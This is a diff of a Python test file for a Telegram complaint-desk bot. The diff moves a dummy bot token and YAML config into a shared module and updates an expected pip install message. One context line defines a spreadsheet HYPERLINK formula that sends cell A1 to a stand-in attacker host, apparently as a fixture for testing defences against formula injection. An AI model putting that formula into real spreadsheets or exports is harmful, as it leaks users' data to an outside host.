@@ -12,6 +12,7 @@ import pytest
 from click.testing import Result
 from fakes import comment
 from pypdf import PdfReader
+from small_office import CONFIG, TOKEN
 from typer.testing import CliRunner
 
 from bot.app import opened_quietly
@@ -30,25 +31,6 @@ from bot.services.tap import Tap
 from bot.services.templates import short_name
 from bot.store.database import Database
 
-TOKEN = "12345:rahasia-uji"
-CONFIG = """\
-agency: {name: Pemerintah Kota Contoh, short: Kota Contoh}
-telegram: {token: '${TANGGAP_BOT_TOKEN}'}
-database: {url: 'sqlite:tanggap.db'}
-chats: {triage: -1001000000001}
-people:
-  - {id: sekar, name: Sekar, roles: [koordinator, pengelola]}
-  - {id: laras, name: Laras, roles: [admin, piket]}
-groups: {kepala-humas: [sekar], pimpinan: [sekar], pendamping: [sekar, laras]}
-units:
-  - {id: bpbd, name: BPBD, people: [sekar]}
-  - {id: layanan, name: Bidang layanan, people: [sekar]}
-  - {id: keamanan, name: Penghubung keamanan, people: [sekar]}
-  - {id: siber, name: Tim siber, people: [sekar]}
-rota:
-  medsos: {shifts: [{days: sen-min, from: '00:00', to: '00:00', people: [laras]}]}
-  medsos-cadangan: {shifts: [{days: sen-min, from: '00:00', to: '00:00', people: [sekar]}]}
-"""
 SEKAR = Person(PersonId("sekar"), "Sekar", frozenset({Role.KOORDINATOR, Role.PENGELOLA}), Zone.WIB)
 START = datetime(2026, 11, 23, 14, 30, tzinfo=UTC)
 FORMULA = '=HYPERLINK("https://jahat.example/?"&A1)'
@@ -227,6 +209,6 @@ def test_without_the_extra_the_answer_names_it_and_html_goes_on(desk: Desk) -> N
     assert not available()
     said = desk("--last", "--pdf", desk.folder / "k.pdf")
     assert said.exit_code == 2
-    assert "pip install 'tanggap[pdf]'" in said.output
+    assert "pip install '.[pdf]'" in said.output
     assert not (desk.folder / "k.pdf").exists()
     assert desk("--last", "--html", desk.folder / "k.html").exit_code == 0
